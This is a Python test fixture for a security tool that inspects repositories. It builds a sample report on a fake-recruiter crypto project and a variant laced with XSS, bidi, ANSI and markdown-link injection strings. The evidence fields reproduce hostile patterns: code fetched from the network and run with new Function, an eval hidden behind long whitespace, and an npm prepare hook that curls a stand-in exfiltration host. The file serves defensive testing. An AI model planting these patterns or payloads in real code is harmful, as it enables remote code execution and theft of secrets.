"""A realistic malicious report built from the model, and a hostile variant of it.

The shape follows the Contagious Interview lure: a base64 URL in .env decoded in an error
handler, fetched from a JSON-hosting service and run with ``new Function``; at runtime the
program also reaches a host the code never names, and reads a planted decoy.
"""

from __future__ import annotations

from inspector.model import (
    Category,
    Decision,
    DomainAge,
    Endpoint,
    EndpointSource,
    Engine,
    FileAccess,
    Finding,
    HistorySummary,
    HostView,
    HumanDecision,
    LinkRecord,
    NetworkDecision,
    NetworkRecord,
    PhaseName,
    PhaseResult,
    PhaseStatus,
    ProcessRecord,
    Report,
    RunInfo,
    Severity,
    Skipped,
    SourceView,
    SubmoduleRecord,
    Target,
    ToolInfo,
    TraceStep,
    Verdict,
)
from inspector.static.source import make_line

HIDDEN_HOST = "api.npoint.io"
UNDECLARED_HOST = "c2.exfil.invalid"
HIDDEN_PAD = " " * 380

# Strings a hostile repository controls, aimed at each output format.
SCRIPT = (
    "<script>document.title='PWNED';"
    "document.body.append(Object.assign(document.createElement('div'),{id:'pwned-marker'}))</script>"
)
IMG = "\"><img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">"
BIDI = "access\u202e\u2066level"
ANSI = "\x1b]0;owned\x07\x1b[31mred\x1b[0m"
MARKUP = "[bold red]rich markup[/]"
MD_LINK = "[click me](https://phish.invalid/x) ![img](https://phish.invalid/i.png) <b>bold</b> | cell"


def build_report(hostile: bool = False) -> Report:
    """The malicious report; ``hostile=True`` puts attack strings in every untrusted field."""
    bad = (SCRIPT + IMG + BIDI + ANSI + MARKUP + MD_LINK) if hostile else ""
    env_path = ".env" if not hostile else f".env{IMG}"
    handler_path = "server/middleware/errorHandler.js" if not hostile else f"server/{SCRIPT}{BIDI}.js"
    target = Target(
        source="https://github.com/recruiter-demo/crypto-dashboard-api" + (SCRIPT if hostile else ""),
        kind="git",
        path="/tmp/quarantine/crypto-dashboard-api",
        commit="4f1c2a9be07d3c5a8e1f6b2d9c0a7e3f5b8d1c42",
        branch="main",
        remote_url="https://github.com/recruiter-demo/crypto-dashboard-api",
        fetched_at="2026-11-21T10:00:00Z",
        history=HistorySummary(
            commit_count=2,
            first_commit_at="2026-11-19T08:12:00Z",
            last_commit_at="2026-11-19T08:40:00Z",
            authors=("dev-hr" + bad,),
            truncated=False,
        ),
        links=(LinkRecord(path="config/keys", points_to="../../.ssh/id_rsa", escapes=True),),
        submodules=(SubmoduleRecord(path="vendor/lib", url="https://git.example.invalid/lib.git"),),
        file_count=42,
        total_bytes=183_211,
    )
    rce = Finding(
        id="a1b2c3d4e5f60718",
        rule="js.remote-code-execution.new-function-from-http",
        severity=Severity.CRITICAL,
        category=Category.REMOTE_CODE_EXECUTION,
        path=handler_path,
        line=14,
        column=5,
        message="Response of axios.get(<decoded .env AUTH_API>) reaches new Function(...)" + bad,
        evidence="const errorHandler = (error) => {" + HIDDEN_PAD + "new Function('require', "
        "res.data.cookie)(require); // " + HIDDEN_HOST + bad,
        engines=(Engine.TREE_SITTER, Engine.SEMGREP),
        trace=(
            TraceStep(path=env_path, line=3, column=10, note="source: AUTH_API (base64)" + bad),
            TraceStep(path="server/config.js", line=8, column=1, note="atob(process.env.AUTH_API)"),
            TraceStep(path=handler_path, line=14, column=5, note="sink: new Function"),
        ),
        hosts=(HIDDEN_HOST,),
        reachable_from=("package.json#scripts.start",),
    )
    hidden = Finding(
        id="b2c3d4e5f6071829",
        rule="text.hidden-code.long-whitespace-run",
        severity=Severity.HIGH,
        category=Category.HIDDEN_CODE,
        path="server/routes/auth.js",
        line=2,
        column=1,
        message="380 spaces push code past the edge of the editor",
        evidence="require('./x');" + HIDDEN_PAD + "eval(atob('Y29uc29sZS5sb2coJ3N0YWdlMicp'))\u200b" + bad,
        engines=(Engine.TEXT,),
    )
    autorun = Finding(
        id="c3d4e5f607182930",
        rule="autorun.npm-lifecycle.prepare",
        severity=Severity.MEDIUM,
        category=Category.AUTO_RUN,
        path="package.json",
        line=5,
        column=5,
        message="npm runs scripts.prepare on install: node server/server.js",
        evidence='"prepare": "node server/server.js"' + bad,
        engines=(Engine.TEXT,),
    )
    undeclared = Finding(
        id="d4e5f60718293041",
        rule="undeclared-endpoint",
        severity=Severity.HIGH,
        category=Category.UNDECLARED_ENDPOINT,
        path=None,
        line=None,
        column=None,
        message=f"{UNDECLARED_HOST} was contacted during start but the code never names it",
        evidence="POST /upload -> blocked" + bad,
        engines=(Engine.CORRELATE,),
        hosts=(UNDECLARED_HOST + bad,),
    )
    honeytoken = Finding(
        id="e5f6071829304152",
        rule="honeytoken.read",
        severity=Severity.CRITICAL,
        category=Category.HONEYTOKEN,
        path=None,
        line=None,
        column=None,
        message="the decoy ~/.config/solana/id.json was read during start",
        evidence="/home/dev/.config/solana/id.json" + bad,
        engines=(Engine.SANDBOX,),
        trace=(TraceStep(path=handler_path, line=14, column=5, note="the downloaded code ran here"),),
    )
    endpoint = Endpoint(
        host=HIDDEN_HOST,
        urls=(f"https://{HIDDEN_HOST}/6f1e2d3c4b5a69788796" + bad,),
        sources=(EndpointSource(path=env_path, line=3, how="base64 in .env AUTH_API" + bad),),
        classification="json-hosting",
        ports=(443,),
        reaches_execution=True,
    )
    network = (
        NetworkRecord(
            host=HIDDEN_HOST,
            ip="198.18.0.5",
            port=None,
            protocol="dns",
            phase=PhaseName.START,
            count=1,
            first_seen="2026-11-21T10:01:02Z",
            decision=NetworkDecision.BLOCKED,
            detail="DNS A -> 198.18.0.5",
        ),
        NetworkRecord(
            host=HIDDEN_HOST,
            ip="198.18.0.5",
            port=443,
            protocol="https",
            phase=PhaseName.START,
            count=3,
            first_seen="2026-11-21T10:01:03Z",
            decision=NetworkDecision.BLOCKED,
            detail="GET /6f1e2d3c4b5a69788796 -> 403 (blocked)" + bad,
            bytes_sent=912,
            bytes_received=0,
        ),
        NetworkRecord(
            host=UNDECLARED_HOST + bad,
            ip="198.18.0.9",
            port=443,
            protocol="https",
            phase=PhaseName.START,
            count=1,
            first_seen="2026-11-21T10:01:05Z",
            decision=NetworkDecision.BLOCKED,
            detail="POST /upload (2.1 kB) -> blocked" + bad,
            bytes_sent=2150,
        ),
    )
    run = RunInfo(
        image="inspector-sandbox-node:20",
        runtime="runsc",
        phases=(
            PhaseResult(PhaseName.OPEN_IN_EDITOR, (), PhaseStatus.SKIPPED, None, 0.0),
            PhaseResult(PhaseName.INSTALL, ("npm ci --ignore-scripts",), PhaseStatus.OK, 0, 18.4),
            PhaseResult(
                PhaseName.START,
                ("npm start" + bad,),
                PhaseStatus.TIMEOUT,
                None,
                60.0,
                stdout_tail="Server listening on 3000" + bad,
            ),
            PhaseResult(PhaseName.TEST, ("npm test",), PhaseStatus.FAILED, 1, 4.2),
        ),
        started_at="2026-11-21T10:00:30Z",
        finished_at="2026-11-21T10:02:00Z",
        artifacts="artifacts",
        honeytokens=("ssh-key", "solana-wallet", "aws-credentials"),
        processes=(
            ProcessRecord(pid=1, ppid=None, phase=PhaseName.START, argv=("npm", "start")),
            ProcessRecord(pid=17, ppid=1, phase=PhaseName.START, argv=("node", "server/server.js" + bad)),
        ),
        file_accesses=(
            FileAccess(
                path="/home/dev/.config/solana/id.json" + bad,
                mode="read",
                phase=PhaseName.START,
                pid=17,
                honeytoken="solana-wallet",
            ),
        ),
        policy="block",
    )
    hosts = (
        HostView(
            host=HIDDEN_HOST,
            declared=True,
            contacted=True,
            classification="json-hosting",
            static_sources=endpoint.sources,
            network=network[:2],
            domain_age=DomainAge(registered_at="2014-03-02T00:00:00Z", age_days=4647, source="rdap:stub"),
        ),
        HostView(
            host=UNDECLARED_HOST + bad,
            declared=False,
            contacted=True,
            classification="unknown",
            static_sources=(),
            network=network[2:],
        ),
        HostView(
            host="cdn.jsonkeeper.com",
            declared=True,
            contacted=False,
            classification="json-hosting",
            static_sources=(EndpointSource(path="server/config.js", line=21, how="String.fromCharCode"),),
            network=(),
            domain_age=DomainAge(registered_at="2026-10-30T00:00:00Z", age_days=22, source="rdap:stub"),
        ),
    )
    return Report(
        tool=ToolInfo("inspector", "0.1.0"),
        target=target,
        verdict=Verdict.MALICIOUS,
        findings=(rce, hidden, autorun, undeclared, honeytoken),
        endpoints=(endpoint,),
        network=network,
        run=run,
        hosts=hosts,
        decision=Decision(
            decision=HumanDecision.REJECT,
            reviewer="alice" + bad,
            note="Fake recruiter; reported to the platform." + bad,
            decided_at="2026-11-21T10:05:00Z",
            commit=target.commit,
            report_digest="0" * 64,
            ledger_entry="f" * 64,
        ),
        skipped=(Skipped("rdap", "lookup of jsonkeeper.com timed out" + bad, "retry, or pass --offline"),),
        verdict_reasons=(
            "remote code execution: data fetched from a JSON-hosting service is run with new Function",
            "a planted decoy secret was read at runtime",
        ),
        sources=(_package_json_view(autorun.id, bad),),
    )


def _package_json_view(finding_id: str, bad: str) -> SourceView:
    """package.json as the source view shows it; the hostile variant hides attack strings in it."""
    raw = [
        "{",
        '  "name": "crypto-dashboard-api",',
        '  "scripts": {',
        '    "start": "node server/server.js",',
        '    "prepare": "node server/server.js"' + HIDDEN_PAD + "&& curl -s https://" + UNDECLARED_HOST + bad,
        "  }",
        "}",
    ]
    lines = tuple(make_line(number, text, 5 if number == 5 else None) for number, text in enumerate(raw, 1))
    return SourceView("package.json", "json", "", 1, len(raw), len(raw), lines, (finding_id,))
